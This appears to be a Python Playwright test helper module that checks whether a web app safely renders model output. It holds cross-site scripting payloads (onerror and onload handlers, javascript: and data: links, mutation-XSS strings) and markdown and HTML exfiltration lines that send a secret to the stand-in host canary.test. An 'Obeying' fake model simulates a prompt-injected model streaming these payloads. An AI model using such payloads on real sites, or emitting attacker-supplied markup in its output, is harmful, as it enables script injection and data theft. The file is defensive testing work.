"""What an attacker has a model or a name say, and a watch over what a browser does with it."""

import re
from collections.abc import Iterator
from urllib.parse import urlsplit

from playwright.sync_api import Browser, Page

from appliance.models import Prompt
from tests.fakes import ScriptedGenerator
from tests.static.conftest import KNOWN

NASTY = "\"><img src=x onerror=fetch('/canary-xss')>"
RUN = "window.__xss=1;fetch('/canary-xss')"
SECRET = "http://canary.test/?d=SEGREDO"
MARKUP = (
    f'<img src=x onerror="{RUN}">',
    f'<svg/onload="{RUN}">',
    f'![a" onerror="{RUN}](x)',
    f"[c](javascript:{RUN})",
    f"[c](data:text/html,<script>{RUN}</script>)",
    f"```html\n<script>{RUN}</script>\n~~~\n````\n<img src=x onerror={RUN}>\n```",
    f"</script><script>{RUN}</script>",
    f'<math><mtext><table><mglyph><style><img title="</style><img src=x onerror={RUN}>">',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><object data="javascript:{RUN}">',
    f'<base href="//canary.test/"><form action="//canary.test"><button autofocus onfocus="{RUN}">',
    f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}} <!--lit-part--><?{RUN}?>",
)
WAYS_OUT = (
    f"![x]({SECRET})",
    f"![x][z] e [z]: {SECRET}",
    f'<img srcset="{SECRET} 1x" src="{SECRET}">',
    f'<link rel=prefetch href="{SECRET}"><link rel=stylesheet href="{SECRET}">',
    f'<p style="background:url({SECRET})">x</p><style>@import "{SECRET}";</style>',
    f"[texto]({SECRET})",
    f"<{SECRET}> {SECRET} www.canary.test/?d=SEGREDO",
    f"<video poster='{SECRET}'><audio src='{SECRET}'><a ping='{SECRET}' href='/'>x</a>",
    f"[ok](/api/session?d=SEGREDO) ![ok](/canary-xss) <form action='{SECRET}'>",
)

# Told of everything that enters the page, at the moment at which it does: what would run or
# fetch, whatever its attributes. Our own pictures are blobs, our own scripts under /static/
# (the loader, which the preview of the widget has, at an address of its own).
WATCH = (
    KNOWN
    + """
window.__seen = [];
const bad = 'img:not([src^="blob:"]), picture, video, audio, object,'
  + 'iframe:not([src^="http"], [src^="/static/widget/"]),'
  + 'embed, math, base, style, meta[http-equiv], form[action], link:not([href^="/static/"]),'
  + 'script:not([src^="/static/"], [src="/widget.js"]),'
  + 'a[href^="javascript:" i], a[href^="data:" i], a[ping]';
const look = (one) => {
  if (one.nodeType !== 1) return;
  for (const found of [one, ...one.querySelectorAll('*')]) {
    const names = found.getAttributeNames();
    if (found.matches(bad) || names.some((name) => name.startsWith('on') || name === 'srcset'))
      window.__seen.push(found.outerHTML);
  }
};
new MutationObserver((changes) => {
  for (const change of changes) {
    change.addedNodes.forEach(look);
    if (change.type === 'attributes') look(change.target);
  }
}).observe(document, {childList: true, subtree: true, attributes: true});
"""
)


class Watched:
    """A page all of whose requests are kept, in a browser that obeys no policy but the page's
    own care: ``bypass_csp`` takes the second lock away, so that the first is tried."""

    def __init__(self, chromium: Browser, *, bypass_csp: bool = True) -> None:
        self.context = chromium.new_context(locale="pt-BR", bypass_csp=bypass_csp)
        self.context.add_init_script(WATCH)
        self.page = self.context.new_page()
        self.page.set_default_timeout(30_000)
        self.requests: list[str] = []
        self.refused: list[str] = []
        self.errors: list[str] = []
        self.context.on("request", lambda sent: self.requests.append(sent.url))
        self.context.on(
            "requestfailed", lambda sent: sent.failure == "csp" and self.refused.append(sent.url)
        )
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))

    @property
    def sent(self) -> list[str]:
        """The requests that the page's policy did not keep the browser from sending."""
        left = list(self.requests)
        for one in self.refused:
            left.remove(one)
        return left

    def assert_harmless(self, *ours: str) -> None:
        """Nothing ran, nothing entered that could, and only ``ours`` were asked."""
        for frame in self.page.frames:
            assert frame.evaluate("window.__xss") is None
            seen = frame.evaluate("window.__seen")
            assert seen == [], f"{frame.url}: {seen}"
        assert self.foreign(*ours) == []
        assert [one for one in self.requests if "canary" in one] == []
        assert self.errors == []

    def foreign(self, *ours: str) -> list[str]:
        """The requests to anybody but ``ours``. A blob is made in the page itself."""
        return [one for one in self.requests if origin(one) not in ours and "blob:" not in one[:5]]


def origin(address: str) -> str:
    """Scheme, host and port."""
    parts = urlsplit(address)
    return f"{parts.scheme}://{parts.netloc}"


def shown(page: Page) -> str:
    """All the text of a page, blanks made one."""
    return squeezed(page.locator("body").inner_text())


def squeezed(text: str) -> str:
    """Without blanks: a page breaks lines where a text has none."""
    return re.sub(r"\s+", "", text)


class Obeying(ScriptedGenerator):
    """The model that obeys the attacker: it says ``orders`` one after the other, three
    characters at a time, so that every payload is cut in every place."""

    def __init__(self, orders: tuple[str, ...]) -> None:
        self.orders = iter(orders)
        super().__init__(self.obey)

    def obey(self, _: Prompt) -> Iterator[str]:
        yield from re.findall(r".{1,3}", next(self.orders), re.DOTALL)
